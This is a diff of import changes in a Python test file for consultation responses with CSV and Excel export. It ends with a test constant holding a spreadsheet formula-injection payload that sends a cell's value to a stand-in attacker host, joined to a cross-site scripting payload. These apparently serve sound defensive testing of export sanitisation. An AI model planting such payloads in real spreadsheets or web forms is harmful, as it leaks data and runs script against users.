@@ -5,18 +5,15 @@ from __future__ import annotations
 import csv
 import io
 import json
-from datetime import UTC, datetime, timedelta
+from datetime import UTC, datetime
 
 import openpyxl
 import pytest
 from sqlalchemy import select
 
-from consultation.remiss import responses
-from consultation.remiss import Comment, Response, ResponseStatus
 from consultation.people import Role
+from consultation.remiss import Comment, Response, ResponseStatus, responses
 from consultation.remiss.responses import CommentInput
-
-from ..factories import OrganisationFactory
 
 HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"Klicka") <img src=x onerror=alert(1)>'
 
